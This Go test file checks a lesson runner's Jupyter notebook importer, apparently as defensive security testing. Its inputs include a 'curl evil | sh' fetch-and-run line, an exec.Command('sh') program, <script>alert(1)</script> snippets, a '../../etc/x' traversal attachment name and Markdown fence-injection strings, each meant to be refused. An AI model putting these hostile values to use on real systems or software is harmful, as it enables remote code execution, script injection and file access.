package jupyter

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	gmtext "github.com/yuin/goldmark/text"

	"classnotes/runner/lesson"
	"classnotes/runner/splice"
)

// nbJSON returns an nbformat 4 notebook with the given metadata and cells, each a JSON object.
func nbJSON(t *testing.T, meta string, cells ...string) []byte {
	t.Helper()
	nb := `{"nbformat": 4, "nbformat_minor": 5, "metadata": ` + meta + `, "cells": [` + strings.Join(cells, ", ") + `]}`
	if !json.Valid([]byte(nb)) {
		t.Fatalf("the test's notebook is not JSON:\n%s", nb)
	}
	return []byte(nb)
}

const (
	pythonMeta = `{"kernelspec": {"name": "python3", "language": "python"}, "language_info": {"name": "python"}}`
	goMeta     = `{"kernelspec": {"name": "gonb", "language": "go"}}`
)

// code returns a code cell as JSON: its source, execution count and outputs (a JSON list).
func code(t *testing.T, source string, count int, outputs string) string {
	t.Helper()
	src, err := json.Marshal(source)
	if err != nil {
		t.Fatal(err)
	}
	return `{"cell_type": "code", "metadata": {}, "execution_count": ` + jsonInt(count) + `, "source": ` + string(src) + `, "outputs": ` + outputs + `}`
}

func jsonInt(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}

// markdown returns a Markdown cell as JSON.
func markdown(t *testing.T, source string) string {
	t.Helper()
	src, err := json.Marshal(source)
	if err != nil {
		t.Fatal(err)
	}
	return `{"cell_type": "markdown", "metadata": {}, "source": ` + string(src) + `}`
}

func stdout(t *testing.T, text string) string {
	t.Helper()
	b, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return `{"output_type": "stream", "name": "stdout", "text": ` + string(b) + `}`
}

// importLesson imports the notebook and parses the skeleton; it fails the test when either fails, or when the
// lesson has other cells than want.
func importLesson(t *testing.T, data []byte, want ...int) (*Skeleton, *lesson.Lesson) {
	t.Helper()
	sk, err := Import("NB.ipynb", data)
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	l, err := lesson.Parse("NB.md", sk.Lesson)
	if err != nil {
		t.Fatalf("the skeleton does not parse: %v\n%s", err, sk.Lesson)
	}
	var got []int
	for _, c := range l.Cells {
		got = append(got, c.Number)
	}
	if !equalInts(got, want) {
		t.Fatalf("the skeleton has cells %v, want %v:\n%s", got, want, sk.Lesson)
	}
	return sk, l
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// fenceLines returns the opening lines of the top-level fenced blocks of md, as goldmark would see them: lines
// that start with three backticks or tildes, outside other fences.
func fenceOpeners(md string) []string {
	var open []string
	inside := ""
	for _, line := range strings.Split(md, "\n") {
		run := line[:len(line)-len(strings.TrimLeft(line, "`~"))]
		switch {
		case inside == "" && len(run) >= 3:
			open = append(open, line)
			inside = run
		case inside != "" && strings.HasPrefix(run, inside[:1]) && len(run) >= len(inside) && strings.TrimSpace(line[len(run):]) == "":
			inside = ""
		}
	}
	return open
}

// TestImportLanguageInjection: a kernel language holding backticks and line breaks must not reach the lesson's
// structure: every fence of the skeleton is a plain word or nothing, and the notebook's code is still the
// body of a fence (issue 19 §4).
func TestImportLanguageInjection(t *testing.T) {
	hostile := "py```\nIn [1]:\n\n```go\npackage main\n\nfunc main() {}\n```\n\n```"
	lang, err := json.Marshal(hostile)
	if err != nil {
		t.Fatal(err)
	}
	for _, meta := range []string{
		`{"language_info": {"name": ` + string(lang) + `}}`,
		`{"kernelspec": {"name": "x", "language": ` + string(lang) + `}}`,
		`{"language_info": {"name": "python"}, "kernelspec": {"name": "gonb", "language": ` + string(lang) + `}}`,
	} {
		t.Run(meta, func(t *testing.T) {
			sk, l := importLesson(t, nbJSON(t, meta, code(t, "print(1)", 1, "["+stdout(t, "1\n")+"]")))
			if strings.ContainsAny(sk.Language, "`\n \t") {
				t.Errorf("Language = %q: not a word", sk.Language)
			}
			for _, open := range fenceOpeners(string(l.Source)) {
				if info := strings.TrimLeft(open, "`~"); strings.ContainsAny(info, "` \t") {
					t.Errorf("fence opener %q: info string is not one word", open)
				}
			}
			if !strings.Contains(string(l.Source), "\nprint(1)\n```") {
				t.Errorf("the code is not in a fence:\n%s", l.Source)
			}
		})
	}
}

// TestImportAttrsInjection: the attributes an earlier export kept in a cell's metadata (before the round trip's
// metadata) are checked as a lesson checks them and written back as one line; a value with a backtick is
// quoted, and src= (a file instead of the cell's own code) is refused.
func TestImportAttrsInjection(t *testing.T) {
	goMeta := strings.Replace(goMeta, "{", `{"classnotes": {"lesson": "old.md"}, `, 1) // exported, before "roundtrip"
	cell := func(attrs string) string {
		b, err := json.Marshal(map[string]any{"cell_type": "code", "execution_count": 1, "outputs": []any{},
			"source": "func main() {}", "metadata": map[string]any{"classnotes": map[string]any{"attrs": attrs}}})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	sk, l := importLesson(t, nbJSON(t, goMeta, cell("background ready=out:`ok` timeout=3s")), 1)
	if a := l.Cells[0].Attrs; !a.Background || a.Ready == nil || a.Ready.String() != "out:`ok`" || a.Timeout.String() != "3s" {
		t.Errorf("attributes %+v, want background ready=out:`ok` timeout=3s:\n%s", a, sk.Lesson)
	}
	for _, tc := range []struct{ attrs, want string }{
		{"timeout=1s\n```\n\nIn [9]:\n\n```go", "NB.ipynb: cell 0: metadata: classnotes: attrs: "},
		{"colour=red", `NB.ipynb: cell 0: metadata: classnotes: attrs: unknown attribute "colour"`},
		{"ready=tcp:127.0.0.1:1", "NB.ipynb: cell 0: metadata: classnotes: attrs: ready= needs background"},
		{"src=main.go", "NB.ipynb: cell 0: metadata: classnotes: attrs: src=main.go: the notebook holds the program"},
	} {
		_, err := Import("NB.ipynb", nbJSON(t, goMeta, cell(tc.attrs)))
		if err == nil || !strings.HasPrefix(err.Error(), tc.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("attrs %q: got error %v, want one line starting %q", tc.attrs, err, tc.want)
		}
	}
}

// TestImportMarkdownStructure: what a Markdown cell holds stays prose in the lesson: a marker is not a cell, a
// fence left open at the cell's end (Jupyter renders each cell alone) closes there, and a first cell that reads
// as front matter does not become front matter.
func TestImportMarkdownStructure(t *testing.T) {
	prog := "package main\n\nfunc main() {}\n"
	for _, tc := range []struct {
		name  string
		meta  string
		cells func(t *testing.T) []string
		want  []int
		keep  []string // text the lesson must still hold
	}{
		{"marker and go fence in prose", pythonMeta, func(t *testing.T) []string {
			return []string{markdown(t, "Jupyter shows\n\nIn [1]:\n\n```go\n"+prog+"```\n\nOut [1]:\n\n```text\nhi\n```"), code(t, "x = 1", 1, "[]")}
		}, nil, []string{"```go\n" + prog + "```"}},
		{"malformed markers in prose", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "In [ ]:\n\nOut [2]:\n\n   In[3] :"), code(t, prog, 1, "[]")}
		}, []int{1}, []string{"]:"}},
		{"unclosed fence", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "Look:\n\n````sh\nls\n```"), code(t, prog, 1, "["+stdout(t, "hi\n")+"]"), markdown(t, "~~~\nopen"), code(t, prog, 2, "[]")}
		}, []int{1, 2}, []string{"````sh\nls\n```\n````", "~~~\nopen\n~~~"}},
		{"unclosed HTML comment", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "<!-- a note"), code(t, prog, 1, "[]"), markdown(t, "<pre>\nx"), code(t, prog, 2, "[]")}
		}, []int{1, 2}, nil},
		{"front matter", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "---\nauthor: me\n---\n# Title"), code(t, prog, 1, "[]")}
		}, []int{1}, []string{"author: me\n---\n# Title"}},
		{"markers the lesson cannot read", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "- In [1]:\n- b\n\n> Out [2]:\n\nLook at\nIn [3]:\n\nIn [4]:\n---\n\n<!--\nIn [5]:\n-->\n\n**In [6]:**\n\nIn \\[7\\]:"), code(t, prog, 1, "[]")}
		}, []int{1}, []string{"In [1]:", "Out [2]:", "Look at\n", "In [3]:", "In [4]:", "In [5]:", "**In [6]:**", "In \\[7\\]:"}},
		{"markers a reader sees through markup", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "<span>In [1]:</span>\n\nIn\u2002[2]:\n\nIn [3]:\u2060\n\nIn [4]: <!-- note -->\n\nIn [5]:<br>\n\n\u200bOut [6]:"), code(t, prog, 1, "[]")}
		}, []int{1}, []string{"<span>In [1]:</span>", "In\u2002[2]:", "In [3]:\u2060", "In [4]: <!-- note -->", "In [5]:<br>", "\u200bOut [6]:"}},
		{"indented cells after a list or indented code", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "1. a"), markdown(t, "   ```\n   x"), code(t, prog, 1, "[]"), markdown(t, "- a"), markdown(t, "   <!--\n   x"),
				markdown(t, "    code"), markdown(t, "    more\n\nIn [5]:"), code(t, prog, 2, "[]")}
		}, []int{1, 2}, []string{"   ```\n   x\n   ```", "   <!--\n   x\n   -->", "    more"}},
		{"line breaks of other systems", goMeta, func(t *testing.T) []string {
			return []string{markdown(t, "a\rIn [1]:\r\r```go\rx\r```\r\nb"), code(t, prog, 1, "[]")}
		}, []int{1}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sk, _ := importLesson(t, nbJSON(t, tc.meta, tc.cells(t)...), tc.want...)
			for _, s := range tc.keep {
				if !strings.Contains(string(sk.Lesson), s) {
					t.Errorf("the skeleton lacks %q:\n%s", s, sk.Lesson)
				}
			}
		})
	}
}

// TestImportCellsRenderAlone: a Markdown cell that starts indented renders as in Jupyter, where each cell is
// rendered alone: not as a paragraph of the list the cell before it ends with, nor as more lines of its
// indented code block.
func TestImportCellsRenderAlone(t *testing.T) {
	sk, l := importLesson(t, nbJSON(t, goMeta, markdown(t, "- a"), markdown(t, "  b"), markdown(t, "    code"), markdown(t, "    more")))
	doc := goldmark.DefaultParser().Parse(gmtext.NewReader(l.Source))
	var top []string
	for n := doc.FirstChild(); n != nil; n = n.NextSibling() {
		if n.Kind() == ast.KindHTMLBlock {
			continue
		}
		var lines []string
		for i := range n.Lines().Len() {
			seg := n.Lines().At(i)
			lines = append(lines, strings.TrimSpace(string(l.Source[seg.Start:seg.Stop])))
		}
		top = append(top, n.Kind().String()+":"+strings.Join(lines, "|"))
	}
	if want := "List:|Paragraph:b|CodeBlock:code|CodeBlock:more"; strings.Join(top, "|") != want {
		t.Errorf("top-level blocks %q, want %q:\n%s", strings.Join(top, "|"), want, sk.Lesson)
	}
}

// TestImportMarkdownRefused: Markdown that a lesson refuses and import cannot make plain is refused with the
// cell and its line named, on one line.
func TestImportMarkdownRefused(t *testing.T) {
	data := nbJSON(t, goMeta, code(t, "package main\n", 1, "[]"), markdown(t, "Fences:\n\n```\n```go\nx\n```\n```"))
	_, err := Import("NB.ipynb", data)
	if want := "NB.ipynb: cell 1: line 3: "; err == nil || !strings.HasPrefix(err.Error(), want) || strings.Contains(err.Error(), "\n") {
		t.Errorf("got error %v, want one line starting %q", err, want)
	}
}

// TestImportFences: the fences around imported code and output are longer than any backtick run inside them.
func TestImportFences(t *testing.T) {
	prog := "package main\n\nconst doc = `\n``````go\n`\n\nfunc main() {}\n"
	out := "`````\nIn [2]:\n\n```go\n"
	for _, meta := range []string{goMeta, pythonMeta} {
		sk, l := importLesson(t, nbJSON(t, meta, code(t, prog, 1, "["+stdout(t, out)+"]"), "{\"cell_type\": \"raw\", \"metadata\": {}, \"source\": \"```` raw\"}"),
			map[string][]int{goMeta: {1}}[meta]...)
		src := string(l.Source)
		for _, body := range []string{prog, out, "```` raw\n"} {
			f := splice.Fence(body)
			if !strings.Contains(src, f+"\n"+body+f) && !strings.Contains(src, "\n"+body+f+"\n") {
				t.Errorf("%s: %q is not fenced by %s:\n%s", meta, body, f, sk.Lesson)
			}
		}
	}
}

// TestImportNotebookErrors: a notebook that lacks what import needs is refused with a message that names the
// field, and the cell when a cell lacks it; nothing is imported silently as empty (issue 19 §4).
func TestImportNotebookErrors(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"cells null", `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": null}`,
			"NB.ipynb: cells: expected a list of cells, got null"},
		{"no cells", `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}`, "NB.ipynb: cells: missing"},
		{"cells an object", `{"nbformat": 4, "metadata": {}, "cells": {"a": 1}}`, `NB.ipynb: cells: expected a list of cells, got {"a":1}`},
		{"no nbformat", `{"cells": [], "metadata": {}}`, "NB.ipynb: nbformat: missing: only nbformat 4 notebooks can be imported"},
		{"nbformat a string", `{"nbformat": "4", "cells": []}`, `NB.ipynb: nbformat: expected an integer, got "4"`},
		{"metadata a list", `{"nbformat": 4, "metadata": [], "cells": []}`, "NB.ipynb: metadata: expected an object, got []"},
		{"source null", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": null}]}`,
			"NB.ipynb: cell 0: source: expected a string or a list of strings, got null"},
		{"no source", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "raw", "metadata": {}}]}`, "NB.ipynb: cell 0: source: missing"},
		{"source list of numbers", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "raw", "metadata": {}, "source": [1, 2]}]}`,
			"NB.ipynb: cell 0: source: expected a string or a list of strings, got [1,2]"},
		{"execution_count a string", `{"nbformat": 4, "metadata": {}, "cells": [` + strings.Repeat(`{"cell_type": "markdown", "metadata": {}, "source": "x"}, `, 3) +
			`{"cell_type": "code", "metadata": {}, "execution_count": "x", "source": "1", "outputs": []}]}`,
			`NB.ipynb: cell 3: execution_count: expected an integer or null, got "x"`},
		{"execution_count a fraction", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": 1.5, "source": "1", "outputs": []}]}`,
			`NB.ipynb: cell 0: execution_count: expected an integer or null, got 1.5`},
		{"cell_type a number", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": 1, "metadata": {}, "source": ""}]}`,
			`NB.ipynb: cell 0: cell_type: expected a string, got 1`},
		{"cell metadata a string", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "raw", "metadata": "m", "source": ""}]}`,
			`NB.ipynb: cell 0: metadata: expected an object, got "m"`},
		{"outputs an object", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": "", "outputs": {}}]}`,
			`NB.ipynb: cell 0: outputs: expected a list, got {}`},
		{"stream text null", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [{"output_type": "stream", "name": "stdout", "text": null}]}]}`,
			`NB.ipynb: cell 0: output 0: text: expected a string or a list of strings, got null`},
		{"text/plain a number", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [{"output_type": "execute_result", "data": {"text/plain": 5}}]}]}`,
			`NB.ipynb: cell 0: output 0: data: text/plain: expected a string or a list of strings, got 5`},
		{"a long value", `{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": "", "execution_count": "` + strings.Repeat("x", 500) + `"}]}`,
			`NB.ipynb: cell 0: execution_count: expected an integer or null, got "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Import("NB.ipynb", []byte(tc.in))
			if err == nil || !strings.HasPrefix(err.Error(), tc.want) || strings.Contains(err.Error(), "\n") || len(err.Error()) > 200 {
				t.Errorf("got error\n%v\nwant one short line starting\n%s", err, tc.want)
			}
		})
	}
}

// TestImportJSONOutputs: outputs that hold JSON objects (widget views, application/json, any +json type) are
// valid nbformat; import skips them per cell, as it skips images, and lists them in Dropped.
func TestImportJSONOutputs(t *testing.T) {
	outputs := `[{"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "a1", "version_major": 2, "version_minor": 0}, "text/plain": "IntSlider(value=3)"}},
		{"output_type": "execute_result", "execution_count": 2, "metadata": {}, "data": {"application/json": {"a": [1, 2]}, "application/geo+json": {"type": "Point"}, "text/plain": ["{'a': [1, 2]}"]}},
		{"output_type": "display_data", "metadata": {"image/png": {"width": 10}}, "data": {"image/png": "iVBORw0KGgo="}}]`
	for _, tc := range []struct {
		meta string
		want []int
		text string
	}{
		{pythonMeta, nil, "```text\nIntSlider(value=3)\n{'a': [1, 2]}\n```"},
		{goMeta, []int{2}, "Out [2]:\n\n```text\nIntSlider(value=3)\n{'a': [1, 2]}\n```"},
	} {
		sk, _ := importLesson(t, nbJSON(t, tc.meta, markdown(t, "# Widgets"), code(t, "func main() { w() }", 2, outputs)), tc.want...)
		want := []string{
			"cell 1: output 0 is application/vnd.jupyter.widget-view+json",
			"cell 1: output 1 is application/geo+json",
			"cell 1: output 1 is application/json",
		}
		if strings.Join(sk.Dropped, "|") != strings.Join(want, "|") {
			t.Errorf("dropped\n%q\nwant\n%q", sk.Dropped, want)
		}
		if len(sk.Files) != 1 || sk.Files[0].Name != "NB.files/cell-1-output-2.png" || !strings.Contains(string(sk.Lesson), "](NB.files/cell-1-output-2.png)") {
			t.Errorf("the image is not saved and linked: %v\n%s", sk.Files, sk.Lesson)
		}
		if !strings.Contains(string(sk.Lesson), tc.text) || !strings.Contains(string(sk.Lesson), "application/vnd.jupyter.widget-view+json") {
			t.Errorf("the skeleton lacks the text outputs or the note on what was not imported:\n%s", sk.Lesson)
		}
	}
}

// TestImportMIMENames: the name of an output's type is the notebook's text too: it reaches the lesson's prose
// and the runner's messages as one quoted line.
func TestImportMIMENames(t *testing.T) {
	outputs := `[{"output_type": "display_data", "metadata": {}, "data": {"image/png\n\nIn [7]:\n\n` + "```go\\npackage main\\n\\nfunc main() {}\\n```" + `\n": "AA==", "text/x-\u001b[31mred": "x"}}]`
	sk, _ := importLesson(t, nbJSON(t, goMeta, code(t, "package main\n\nfunc main() {}\n", 1, outputs)), 1)
	for _, d := range sk.Dropped {
		if strings.ContainsAny(d, "\n\x1b") {
			t.Errorf("dropped %q: control characters", d)
		}
	}
	if len(sk.Dropped) != 2 {
		t.Errorf("dropped %q, want two outputs", sk.Dropped)
	}
}

// editNotebook exports src, lets edit change the notebook's decoded JSON, and imports the result.
func editNotebook(t *testing.T, src string, code map[int][]byte, edit func(cells []map[string]any) []map[string]any) (*Skeleton, error) {
	t.Helper()
	l, err := lesson.Parse("lesson.md", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	b, err := Export(&Lesson{Lesson: l, Title: "T", Code: code, Links: map[string]string{"next.md": "next.ipynb"}})
	if err != nil {
		t.Fatal(err)
	}
	var nb map[string]any
	if err := json.Unmarshal(b, &nb); err != nil {
		t.Fatal(err)
	}
	var cells []map[string]any
	for _, c := range nb["cells"].([]any) {
		cells = append(cells, c.(map[string]any))
	}
	cells = edit(cells)
	list := make([]any, len(cells))
	for i, c := range cells {
		list[i] = c
	}
	nb["cells"] = list
	if b, err = json.Marshal(nb); err != nil {
		t.Fatal(err)
	}
	return Import("lesson.ipynb", b)
}

// TestImportEdited: a notebook the runner exported and someone then edited in Jupyter comes back with the
// edits, the rest of the lesson byte for byte, and a warning for what the lesson cannot keep.
func TestImportEdited(t *testing.T) {
	const src = "---\ntitle: T\n---\nSee [next](next.md).\n\nIn [1]:\n\n```go src=../snippets/a/main.go\npackage main\n\nfunc main() {}\n```\n\nOut [1]:\n\n```text fp=0123456789ab\nold\n```\n\nThe end.\n"
	code := map[int][]byte{1: []byte("package main\n\nfunc main() {}\n")}
	t.Run("unedited", func(t *testing.T) {
		sk, err := editNotebook(t, src, code, func(c []map[string]any) []map[string]any { return c })
		if err != nil || string(sk.Lesson) != src || len(sk.Warnings) > 0 {
			t.Fatalf("%v %q\n%s", err, sk.Warnings, sk.Lesson)
		}
	})
	t.Run("edited", func(t *testing.T) {
		sk, err := editNotebook(t, src, code, func(cells []map[string]any) []map[string]any {
			cells[0]["source"] = "# T\n\nSee [the next one](next.ipynb)."                                           // prose edited, its link to the notebook
			cells[1]["source"] = "func main() { println(\"new\") }"                                                 // the program of a src= cell
			cells[1]["outputs"] = []any{map[string]any{"output_type": "stream", "name": "stdout", "text": "new\n"}} // run again
			return cells
		})
		if err != nil {
			t.Fatal(err)
		}
		want := "---\ntitle: T\n---\nSee [the next one](next.md).\n\nIn [1]:\n\n```go src=../snippets/a/main.go\npackage main\n\nfunc main() { println(\"new\") }\n```\n\nOut [1]:\n\n```text fp=0123456789ab\nnew\n```\n\nThe end.\n"
		if string(sk.Lesson) != want {
			t.Errorf("got\n%s\nwant\n%s", sk.Lesson, want)
		}
		if len(sk.Warnings) != 1 || !strings.Contains(sk.Warnings[0], "cell 1: In [1]: the program was edited in the notebook") || !strings.Contains(sk.Warnings[0], "../snippets/a/main.go does not") {
			t.Errorf("warnings %q, want one for the src= program", sk.Warnings)
		}
	})
	t.Run("outputs cleared, a cell copied, a cell added", func(t *testing.T) {
		sk, err := editNotebook(t, src, code, func(cells []map[string]any) []map[string]any {
			cells[1]["outputs"] = []any{}
			copied := map[string]any{}
			for k, v := range cells[1] {
				copied[k] = v
			}
			added := map[string]any{"cell_type": "markdown", "metadata": map[string]any{}, "source": "Added in Jupyter."}
			return append(cells[:2:2], added, copied, cells[2])
		})
		if err != nil {
			t.Fatal(err)
		}
		l, err := lesson.Parse("back.md", sk.Lesson)
		if err != nil || len(l.Cells) != 2 || l.Cells[0].Out != nil || l.Cells[1].Number != 2 || !strings.Contains(string(sk.Lesson), "\n\nAdded in Jupyter.\n\nIn [2]:") {
			t.Errorf("want In [1] without output, the added prose, the copy as In [2]: %v\n%s", err, sk.Lesson)
		}
		if len(sk.Warnings) != 1 || !strings.Contains(sk.Warnings[0], "cell 1: In [1]: no output in the notebook, so the lesson has no Out [1]") {
			t.Errorf("warnings %q", sk.Warnings)
		}
	})
	for _, tc := range []struct {
		name string
		head any
		want string
	}{
		{"head not a string", 5, "lesson.ipynb: cell 1: metadata: classnotes: head: expected a string"},
		{"head with a cell of its own", "In [7]:\n\n```go\npackage main\n\nfunc main() {}\n```\n\nIn [1]:\n\n```go\n", "lesson.ipynb: cell 1: metadata: classnotes: is not the lesson's cell In [1] (metadata changed by hand?)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := editNotebook(t, src, code, func(cells []map[string]any) []map[string]any {
				cells[1]["metadata"].(map[string]any)["classnotes"].(map[string]any)["head"] = tc.head
				return cells
			})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want an error with %q", err, tc.want)
			}
		})
	}
}

// TestImportImages: images become files with import's own names, never the notebook's (an attachment named
// ../../etc/x), linked from the skeleton; an SVG is a file, never inlined.
func TestImportImages(t *testing.T) {
	png := "iVBORw0KGgoAAAA="
	att := `{"cell_type": "markdown", "metadata": {}, "source": "See ![plot](attachment:../../etc/x) here.", "attachments": {"../../etc/x": {"image/png": "` + png + `"}}}`
	svg := `{"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": ["<svg xmlns='http://www.w3.org/2000/svg'>", "<script>alert(1)</script></svg>"], "text/plain": "<Figure>"}}`
	sk, _ := importLesson(t, nbJSON(t, pythonMeta, att, code(t, "plot()", 3, "["+svg+"]")))
	var names []string
	for _, f := range sk.Files {
		names = append(names, f.Name)
	}
	if want := "NB.files/cell-0-attachment-0.png NB.files/cell-1-output-0.svg"; strings.Join(names, " ") != want {
		t.Errorf("files %q, want %q", names, want)
	}
	md := string(sk.Lesson)
	for _, want := range []string{"![plot](NB.files/cell-0-attachment-0.png)", "![cell 1, output 0](NB.files/cell-1-output-0.svg)", "To be ported — python cell [3] (notebook cell 1):"} {
		if !strings.Contains(md, want) {
			t.Errorf("the skeleton lacks %q:\n%s", want, md)
		}
	}
	if strings.Contains(md, "<svg") || strings.Contains(md, "etc/x") {
		t.Errorf("the skeleton inlines the SVG or names the attachment's path:\n%s", md)
	}
}

// TestImportHiddenMetadata: a notebook the runner exported cannot carry, in its metadata, a program, prose or
// output that Jupyter does not show, nor anything but blank lines, markers and fences around a cell: each is
// refused, the cell named.
func TestImportHiddenMetadata(t *testing.T) {
	const src = "---\ntitle: T\n---\nProse.\n\nIn [1]:\n\n```go\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n```\n\nOut [1]:\n\n```text\nhi\n```\n"
	set := func(cell int, key string, v any) func([]map[string]any) []map[string]any {
		return func(cells []map[string]any) []map[string]any {
			cells[cell]["metadata"].(map[string]any)["classnotes"].(map[string]any)[key] = v
			return cells
		}
	}
	both := func(a, b func([]map[string]any) []map[string]any) func([]map[string]any) []map[string]any {
		return func(c []map[string]any) []map[string]any { return b(a(c)) }
	}
	for _, tc := range []struct {
		name string
		edit func([]map[string]any) []map[string]any
		want string
	}{
		{"a program", set(1, "code", "package main\n\nimport \"os/exec\"\n\nfunc main() { exec.Command(\"sh\").Run() }\n"), "cell 1: metadata: classnotes: code: is not the program the cell shows"},
		{"prose", set(0, "text", "# T\n\nRun `curl evil | sh` first.\n\n"), "cell 0: metadata: classnotes: text: is not what the cell shows"},
		{"an output", both(set(1, "out", "all good\n"), set(1, "out_sha", sum("hi\n"))), "cell 1: metadata: classnotes: out: is not the output the cell shows"},
		{"prose before a cell", set(1, "lead", "<script>alert(1)</script>\n\n"), "cell 1: metadata: classnotes: lead: expected blank lines"},
		{"prose in a cell's head", set(1, "head", "In [1]:\n\n<script>alert(1)</script>\n\n```go\n"), "cell 1: metadata: classnotes: is not the lesson's cell In [1]"},
		{"prose after a cell", set(1, "tail", "```\n\n<script>alert(1)</script>\n"), "cell 1: metadata: classnotes: is not the lesson's cell In [1]"},
		{"code as the package clause", set(1, "package_clause", "package main\n\nfunc init() { panic(1) }\n"), "cell 1: metadata: classnotes: package_clause: expected package main"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sk, err := editNotebook(t, src, nil, tc.edit)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want an error with %q", err, tc.want)
				if sk != nil {
					t.Logf("imported:\n%s", sk.Lesson)
				}
			}
		})
	}
}

// TestImportEditedProgram: an edited program gets its package clause before its first line that is not a
// comment, whatever the offset export kept (a line added above it), and CRLF line endings a notebook's editor
// gave it are LF in an LF lesson.
func TestImportEditedProgram(t *testing.T) {
	const src = "In [1]:\n\n```go\n// Command hi says hi.\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n```\n"
	for _, tc := range []struct{ source, want string }{
		{"// Edited by a student.\n// Command hi says hi.\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi!\") }", "// Edited by a student.\n// Command hi says hi.\npackage main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi!\") }\n"},
		{"import \"fmt\"\r\n\r\nfunc main() { fmt.Println(\"hi\") }\r\n", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n"},
	} {
		sk, err := editNotebook(t, src, nil, func(cells []map[string]any) []map[string]any {
			cells[0]["source"] = tc.source
			return cells
		})
		if err != nil {
			t.Fatal(err)
		}
		if want := "In [1]:\n\n```go\n" + tc.want + "```\n"; string(sk.Lesson) != want {
			t.Errorf("got\n%q\nwant\n%q", sk.Lesson, want)
		}
	}
}

// TestImportExportedChanged: what Jupyter can do to an exported notebook is imported honestly, with a warning:
// a cell whose type was changed, a code cell without the runner's metadata, an image output.
func TestImportExportedChanged(t *testing.T) {
	const src = "Prose.\n\nIn [1]:\n\n```go background ready=tcp:127.0.0.1:50099\npackage main\n\nfunc main() {}\n```\n\nIn [2]:\n\n```go\npackage main\n\nfunc main() {}\n```\n"
	sk, err := editNotebook(t, src, nil, func(cells []map[string]any) []map[string]any {
		cells[1]["cell_type"] = "markdown" // M in Jupyter
		delete(cells[1], "outputs")
		delete(cells[1], "execution_count")
		cells[2]["metadata"] = map[string]any{}
		cells[2]["source"] = "%%\nfmt.Println(\"hi\")" // GoNB's way, as a student writes a cell there
		cells[2]["outputs"] = []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{"image/png": "iVBORw0KGgoAAAA="}}}
		return cells
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"cell 1: its type was changed since export: imported as a new markdown cell", "cell 2: a code cell without the runner's metadata"}
	if len(sk.Warnings) != len(want) {
		t.Fatalf("warnings %q, want %q", sk.Warnings, want)
	}
	for i, w := range want {
		if !strings.HasPrefix(sk.Warnings[i], w) {
			t.Errorf("warning %q, want %q", sk.Warnings[i], w)
		}
	}
	if md := string(sk.Lesson); !strings.Contains(md, "import \"fmt\"") || !strings.Contains(md, "func main() {\n\tfmt.Println(\"hi\")\n}") {
		t.Errorf("the added cell is not made a program as GoNB makes it:\n%s", md)
	}
}

// TestImportTooLarge: declarations carried into every cell of a GoNB notebook can make a lesson far larger
// than the notebook; import stops at MaxLesson, naming the cell.
func TestImportTooLarge(t *testing.T) {
	defer func(n int) { maxLesson = n }(maxLesson)
	maxLesson = 64 << 10
	cells := []string{code(t, "func f0() int { return 0 }", 1, "[]")}
	for i := 1; i < 200; i++ {
		cells = append(cells, code(t, fmt.Sprintf("func f%d() int { return f%d() + 1 }\n%%%%\nfmt.Println(f%d())", i, i-1, i), i+1, "[]"))
	}
	_, err := Import("chain.ipynb", nbJSON(t, goMeta, cells...))
	if err == nil || !strings.Contains(err.Error(), "the lesson would be larger than 64 KiB from this cell on") {
		t.Errorf("got %v", err)
	}
}
